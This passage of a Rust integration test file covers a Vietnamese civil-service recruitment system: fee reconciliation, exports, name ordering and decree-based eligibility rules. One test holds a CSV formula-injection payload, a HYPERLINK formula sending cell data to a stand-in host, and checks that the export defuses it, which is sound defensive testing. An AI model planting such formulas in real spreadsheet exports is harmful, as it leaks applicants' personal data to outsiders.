    assert_eq!(paid.status, StatusCode::OK, "{}", paid.body);
    let statement = statement(&[
        ("500.000", &format!("LE PHI {a_code} NGUYEN THI HOA")),
        ("500.000", &format!("LE PHI {b_code}")),
        ("300.000", "CHUYEN TIEN KHONG RO NOI DUNG"),
        ("500.000", &format!("LE PHI {a_code} CHUYEN LAN HAI")),
    ]);
    let report = f
        .app
        .post_multipart(
            "/api/hr/reconcile_fees",
            &[("round_id", &round), ("reason", "")],
            ("saoke.csv", &statement),
            Some(&f.hr),
        )
        .await;
    assert_eq!(report.status, StatusCode::OK, "{}", report.body);
    let report = report.json();
    assert_eq!(report["recorded"][0]["receipt_code"], a_code.as_str());
    assert_eq!(report["already_paid"][0]["receipt_code"], b_code.as_str());
    assert_eq!(report["unmatched"][0]["line"], 4);
    // The same code twice in one statement: recorded once, then "already paid".
    assert_eq!(report["already_paid"][1]["receipt_code"], a_code.as_str());
    assert_eq!(report["already_paid"][1]["line"], 5);
    assert_eq!(
        report["totals"],
        serde_json::json!({"recorded": 1, "already_paid": 2, "wrong_amount": 0, "unmatched": 1})
    );
    // A long statement: the first 500 lines of each kind are listed, and how many in all.
    let noise: Vec<(&str, String)> = (0..1_200)
        .map(|n| ("100.000", format!("CHUYEN TIEN SO {n}")))
        .collect();
    let noise: Vec<(&str, &str)> = noise.iter().map(|(a, t)| (*a, t.as_str())).collect();
    let long = f
        .app
        .post_multipart(
            "/api/hr/reconcile_fees",
            &[("round_id", &round), ("reason", "")],
            ("saoke-dai.csv", &self::statement(&noise)),
            Some(&f.hr),
        )
        .await;
    assert_eq!(long.status, StatusCode::OK, "{}", long.body);
    let long = long.json();
    assert_eq!(long["unmatched"].as_array().unwrap().len(), 500);
    assert_eq!(long["totals"]["unmatched"], 1_200);
    let paid: i64 = sqlx::query_scalar(
        "select count(*) from applications where fee_paid_at is not null and fee_amount = 500000",
    )
    .fetch_one(&pool)
    .await
    .unwrap();
    assert_eq!(paid, 2);
    let home = f
        .app
        .post("/api/applications/mine", &[], Some(&a))
        .await
        .json();
    let kinds: Vec<&str> = home["applications"][0]["timeline"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["kind"].as_str().unwrap())
        .collect();
    assert_eq!(
        kinds,
        [
            "Submitted",
            "NeedsCorrection",
            "Corrected",
            "Eligible",
            "FeePaid"
        ]
    );

    // The lists for the council, with Vietnamese headers.
    let csv = f
        .app
        .get(
            &format!("/hr/rounds/{round}/applications/all.csv"),
            Some(&f.hr),
        )
        .await;
    assert_eq!(csv.status, StatusCode::OK);
    assert!(csv.body.contains("Mã hồ sơ,Họ và tên,Ngày sinh"));
    assert!(csv.body.contains(&a_code) && csv.body.contains("05/09/1998"));
    f.app
        .post(
            "/api/hr/decide",
            &[
                ("round_id", &round),
                ("ids[0]", &b_str),
                ("decision", "rejected"),
                ("reason", "Sai chuyên ngành"),
            ],
            Some(&f.hr),
        )
        .await;
    let eligible = f
        .app
        .get(
            &format!("/hr/rounds/{round}/applications/eligible.csv"),
            Some(&f.hr),
        )
        .await;
    assert!(eligible.body.contains(&a_code) && !eligible.body.contains(&b_code));
    let xlsx = f
        .app
        .get(
            &format!("/hr/rounds/{round}/applications/all.xlsx"),
            Some(&f.hr),
        )
        .await;
    assert_eq!(xlsx.status, StatusCode::OK);
    assert!(xlsx.headers["content-type"]
        .to_str()
        .unwrap()
        .contains("spreadsheetml"));
}

#[sqlx::test(migrations = "../migrations")]
async fn moving_the_round_to_screening_puts_applications_under_review(pool: PgPool) {
    let f = setup(&pool).await;
    let a = ready_applicant(&f, "a@example.vn", "040198000001").await;
    submitted(&submit(&f.app, &a, f.round).await);
    // The round's window ends (in the database's time, which the state machine reads).
    sqlx::query("update rounds set closes_at = now() - interval '1 minute', opens_at = now() - interval '40 days'")
        .execute(&pool)
        .await
        .unwrap();
    let round = f.round.to_string();
    for to in ["closed", "screening"] {
        let moved = f
            .app
            .post(
                "/api/hr/advance_round",
                &[("round_id", &round), ("to", to), ("reason", "")],
                Some(&f.hr),
            )
            .await;
        assert_eq!(moved.status, StatusCode::OK, "{to}: {}", moved.body);
    }
    let status: String = sqlx::query_scalar("select status from applications")
        .fetch_one(&pool)
        .await
        .unwrap();
    assert_eq!(status, "under_review");
    let home = f
        .app
        .post("/api/applications/mine", &[], Some(&a))
        .await
        .json();
    assert_eq!(home["notifications"][0]["kind"], "UnderReview");
}

#[sqlx::test(migrations = "../migrations")]
async fn without_smtp_the_mailer_logs_each_email_once_and_keeps_it(pool: PgPool) {
    use clap::Parser;
    let f = setup(&pool).await;
    let a = ready_applicant(&f, "a@example.vn", "040198000001").await;
    submitted(&submit(&f.app, &a, f.round).await);
    let cli = server::config::Cli::parse_from(["server"]);
    let mailer = server::mailer::Mailer::from_config(&cli.config).unwrap();
    // The registration's code and the submission's receipt.
    assert_eq!(server::mailer::send_batch(&pool, &mailer).await.unwrap(), 2);
    assert_eq!(server::mailer::send_batch(&pool, &mailer).await.unwrap(), 0);
    let (status, attempts): (String, i32) =
        sqlx::query_as("select status, attempts from email_outbox order by id desc limit 1")
            .fetch_one(&pool)
            .await
            .unwrap();
    assert_eq!((status.as_str(), attempts), ("logged", 1));
    // Staff read it in the outbox.
    let outbox = f.app.post("/api/admin/outbox", &[], Some(&f.hr)).await;
    assert_eq!(outbox.json()[0]["to_address"], "a@example.vn");
}

#[sqlx::test(migrations = "../migrations")]
async fn lists_follow_vietnamese_name_order(pool: PgPool) {
    let f = setup(&pool).await;
    let a = ready_applicant(&f, "a@example.vn", "040198000001").await;
    let b = ready_applicant(&f, "b@example.vn", "040198000002").await;
    let (a_id, ..) = submitted(&submit(&f.app, &a, f.round).await);
    let (b_id, ..) = submitted(&submit(&f.app, &b, f.round).await);
    // By bytes "Anh …" comes first; by given name (An before Zung) "Bùi Văn An" does.
    for (id, name) in [(a_id, "Anh Thị Zung"), (b_id, "Bùi Văn An")] {
        sqlx::query("update applications set full_name = $2 where id = $1")
            .bind(id)
            .bind(name)
            .execute(&pool)
            .await
            .unwrap();
    }
    let csv = f
        .app
        .get(
            &format!("/hr/rounds/{}/applications/all.csv", f.round),
            Some(&f.hr),
        )
        .await
        .body;
    let (an, zung) = (
        csv.find("Bùi Văn An").unwrap(),
        csv.find("Anh Thị Zung").unwrap(),
    );
    assert!(an < zung, "{csv}");
}

#[sqlx::test(migrations = "../migrations")]
async fn a_name_written_as_a_formula_is_exported_as_text(pool: PgPool) {
    let f = setup(&pool).await;
    let a = ready_applicant(&f, "a@example.vn", "040198000001").await;
    let (id, ..) = submitted(&submit(&f.app, &a, f.round).await);
    let name = r#"=HYPERLINK("http://x.example/?"&B2&C2,"Xem")"#;
    sqlx::query("update applications set full_name = $2 where id = $1")
        .bind(id)
        .bind(name)
        .execute(&pool)
        .await
        .unwrap();
    let csv = f
        .app
        .get(
            &format!("/hr/rounds/{}/applications/all.csv", f.round),
            Some(&f.hr),
        )
        .await;
    assert_eq!(csv.status, StatusCode::OK, "{}", csv.body);
    // One apostrophe first, so the spreadsheet shows the text instead of running it.
    let quoted = format!("\"'{}\"", name.replace('"', "\"\""));
    assert!(csv.body.contains(&quoted), "{}", csv.body);
}

/// Decree 170/2025 Art 6 as amended: Mẫu 01 declares every priority category that applies and
/// only the highest counts; under the amended decree the application is Mẫu 01 alone (Art 15),
/// the certificate coming with the winner's dossier (Art 18.1.b), while rounds under the
/// earlier rule set still want its scan with the application.
#[sqlx::test(migrations = "../migrations")]
async fn every_priority_category_is_declared_and_the_highest_counts(pool: PgPool) {
    let f = setup(&pool).await;
    let rules = |code: &'static str| {
        let (pool, round) = (pool.clone(), f.round);
        async move {
            sqlx::query(
                "update rounds set rule_set_id =
                    (select id from rule_sets where code = $2 and version = 1) where id = $1",
            )
            .bind(round)
            .bind(code)
            .execute(&pool)
            .await
            .unwrap();
        }
    };
    rules("ND170-2025-ND300-2026").await;
    let declare = |cookie: String, codes: &'static [&'static str]| {
        let f = &f;
        async move {
            let mut fields = vec![
                ("round_id".to_string(), f.round.to_string()),
                ("position_id".to_string(), f.single.to_string()),
            ];
            for code in codes {
                fields.push(("priority_codes[]".to_string(), code.to_string()));
            }
            let reply = post_owned(&f.app, "/api/applications/save_choice", &fields, &cookie).await;
            assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
        }
    };
    let cookie = ready_applicant(&f, "ts1@example.vn", "040198000001").await;
    // A code the rule set does not have is refused at submission, and nothing is submitted.
    declare(cookie.clone(), &["khong_ton_tai"]).await;
    let refused = submit(&f.app, &cookie, f.round).await;
    assert_eq!(
        refused.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{}",
        refused.body
    );
    assert!(refused.body.contains("priority_code"), "{}", refused.body);
    assert_eq!(count(&pool, "applications").await, 0);

    // The 1.5-point category and the widened 2.5-point group: both declared, 2.5 counts, and
    // no scan is asked for.
    declare(
        cookie.clone(),
        &["can_bo_cong_doan", "xuat_ngu_thanh_nien_xung_phong"],
    )
    .await;
    let submitted = submit(&f.app, &cookie, f.round).await;
    assert_eq!(submitted.status, StatusCode::OK, "{}", submitted.body);
    let stored: (String, Vec<String>) = sqlx::query_as(
        "select priority_code, priority_codes from applications where round_id = $1",
    )
    .bind(f.round)
    .fetch_one(&pool)
    .await
    .unwrap();
    assert_eq!(
        stored,
        (
            "xuat_ngu_thanh_nien_xung_phong".to_string(),
            vec![
                "xuat_ngu_thanh_nien_xung_phong".to_string(),
                "can_bo_cong_doan".to_string()
            ]
        )
    );

    // Under Decree 170 before the amendment the certificate's scan comes with the application.
    rules("ND170-2025").await;
    let other = ready_applicant(&f, "ts2@example.vn", "040198000002").await;
    declare(other.clone(), &["xuat_ngu_thanh_nien_xung_phong"]).await;
    let refused = submit(&f.app, &other, f.round).await;
    assert_eq!(
        refused.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{}",
        refused.body
    );
    assert!(
        refused.body.contains("ErrPriorityEvidence"),
        "{}",
        refused.body
    );
    assert_eq!(count(&pool, "applications").await, 1);
}

/// A round of `authority` opening at `opens_at` with one position; an application in it by
/// candidate `n` with `national_id`, struck off for fraud at `struck_at`.
async fn struck_off_for_fraud(
    pool: &PgPool,
    authority: &str,
    opens_at: OffsetDateTime,
    (n, national_id): (i32, &str),
    struck_at: OffsetDateTime,
) {
    let round: Uuid = sqlx::query_scalar(
        "insert into rounds (name, authority, notice, opens_at, closes_at, rule_set_id, status)
         select 'Kỳ tuyển dụng trước', $1, 'Thông báo', $2, $2 + interval '30 days', id,
                'published'
         from rule_sets where code = 'ND170-2025-ND300-2026' and version = 1 returning id",
    )
    .bind(authority)
    .bind(opens_at)
    .fetch_one(pool)
    .await
    .unwrap();
    let position: Uuid = sqlx::query_scalar(
        "insert into positions (round_id, code, title, min_degree, stage2_format)
         values ($1, 'KT-09', 'Chuyên viên kế toán', 'bachelor', 'written') returning id",
    )
    .bind(round)
    .fetch_one(pool)
    .await
    .unwrap();
    let born = time::Date::from_calendar_date(1995, time::Month::May, 2).unwrap();
    let application =
        common::numbered_candidate(pool, round, position, n, "Phan Văn Gian", born).await;
    sqlx::query("update applications set national_id = $2 where id = $1")
        .bind(application)
        .bind(national_id)
        .execute(pool)
        .await
        .unwrap();
    sqlx::query(
        "insert into dossier_outcomes (application_id, round_id, completed, outcome, reason,
                                       recorded_by, recorded_at)
         select $1, $2, false, 'fraud', 'Bằng tốt nghiệp giả', id, $3
         from users where email = 'ns@example.vn'",
    )
    .bind(application)
    .bind(round)
    .bind(struck_at)
    .execute(pool)
    .await
    .unwrap();
}

/// Decree 170/2025 Art 18 as amended by Decree 300/2026: a winner struck off for fraud may not
/// apply in the same authority's next round, the first to open after the strike-off; another
/// authority's round, or a later round of the same one, takes them.
#[sqlx::test(migrations = "../migrations")]
async fn a_winner_struck_off_for_fraud_is_refused_in_the_authoritys_next_round(pool: PgPool) {
    let f = setup(&pool).await;
    // Struck off on 1 October, before this round opened on 20 November.
    struck_off_for_fraud(
        &pool,
        " ubnd TỈNH Nghệ An",
        datetime!(2026-06-01 08:00 +7),
        (7, "040198000007"),
        datetime!(2026-10-01 09:00 +7),
    )
    .await;
    // The same person, with the number written in groups as people copy it.
    let barred = ready_applicant(&f, "gian@example.vn", "040 198 000 007").await;
    let refused = submit(&f.app, &barred, f.round).await;
    assert_eq!(
        field_msgs(&refused),
        [("profile".to_string(), "ErrBarredForFraud".to_string())]
    );
    assert_eq!(count(&pool, "applications").await, 1);
    // Someone else applies as usual.
    let other = ready_applicant(&f, "khac@example.vn", "040198000002").await;
    submitted(&submit(&f.app, &other, f.round).await);

    // Struck off by another authority: no bar here.
    struck_off_for_fraud(
        &pool,
        "UBND tỉnh Hà Tĩnh",
        datetime!(2026-06-01 08:00 +7),
        (8, "040198000008"),
        datetime!(2026-10-01 09:00 +7),
    )
    .await;
    let elsewhere = ready_applicant(&f, "hatinh@example.vn", "040198000008").await;
    submitted(&submit(&f.app, &elsewhere, f.round).await);

    // Once another round of the authority opened after the strike-off (on 1 November), that
    // one was the next round: this later one takes the candidate.
    sqlx::query(
        "insert into rounds (name, authority, notice, opens_at, closes_at, rule_set_id, status)
         select 'Kỳ tuyển dụng tháng 11', 'UBND tỉnh Nghệ An', 'Thông báo', $1, $1 + interval '30 days',
                id, 'closed'
         from rule_sets where code = 'ND170-2025-ND300-2026' and version = 1",
    )
    .bind(datetime!(2026-11-01 08:00 +7))
    .execute(&pool)
    .await
    .unwrap();
    submitted(&submit(&f.app, &barred, f.round).await);
}

/// Decree 170/2025 Art 3.2.c: a position reserved for ethnic-minority candidates takes only
/// them; the ethnicity is the one declared on Mẫu 01.
#[sqlx::test(migrations = "../migrations")]
async fn a_position_reserved_for_ethnic_minorities_takes_only_them(pool: PgPool) {
    let f = setup(&pool).await;
    sqlx::query("update positions set ethnic_minority_only = true where id = $1")
        .bind(f.single)
        .execute(&pool)
        .await
        .unwrap();
    // The default profile declares Kinh.
    let kinh = ready_applicant(&f, "kinh@example.vn", "040198000011").await;
    let refused = submit(&f.app, &kinh, f.round).await;
    assert_eq!(
        field_msgs(&refused),
        [(
            "position_id".to_string(),
            "ErrEthnicMinorityOnly".to_string()
        )]
    );
    assert_eq!(count(&pool, "applications").await, 0);

    let cookie = f.app.register("thai@example.vn", PASSWORD).await;
    let mut fields = profile_fields("040198000012");
    for (name, value) in fields.iter_mut() {
        if name == "form[ethnicity]" {
            *value = "Thái".to_string();
        }
    }
    let saved = save_profile(&f.app, &cookie, &fields).await;
    assert_eq!(saved.status, StatusCode::OK, "{}", saved.body);
    let chosen = choose(&f, &cookie, f.single, &[]).await;
    assert_eq!(chosen.status, StatusCode::OK, "{}", chosen.body);
    submitted(&submit(&f.app, &cookie, f.round).await);
}
